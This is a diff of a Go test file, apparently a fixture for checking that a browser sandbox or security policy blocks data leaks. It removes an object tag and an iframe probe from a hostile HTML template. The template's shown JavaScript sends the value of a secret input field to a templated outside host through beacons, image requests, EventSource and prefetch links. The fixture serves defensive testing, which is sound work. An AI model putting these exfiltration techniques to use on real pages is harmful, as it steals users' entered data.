@@ -104,7 +104,6 @@ var hostilePages = template.Must(template.New("hostile").Parse(`
 <div id="bg">fond</div>
 <img src="{{.To}}/img" alt="">
 <video src="{{.To}}/video"></video><audio src="{{.To}}/audio"></audio>
-<object data="{{.To}}/object"></object>
 <p><label>Numéro <input id="secret" name="secret"></label></p>
 <p><a id="ping-link" href="help" ping="{{.To}}/ping">Aide</a></p>
 <script>
@@ -117,7 +116,6 @@ function leak() {
 	try { new EventSource(to + "/sse"); } catch (e) {}
 	try { navigator.sendBeacon(to + "/beacon", secret()); } catch (e) {}
 	try { new Image().src = to + "/img-js?" + encodeURIComponent(secret()); } catch (e) {}
-	try { const f = document.createElement("iframe"); f.src = to + "/frame"; document.body.appendChild(f); } catch (e) {}
 	try { const l = document.createElement("link"); l.rel = "prefetch"; l.href = to + "/prefetch"; document.head.appendChild(l); } catch (e) {}
 }
 leak();
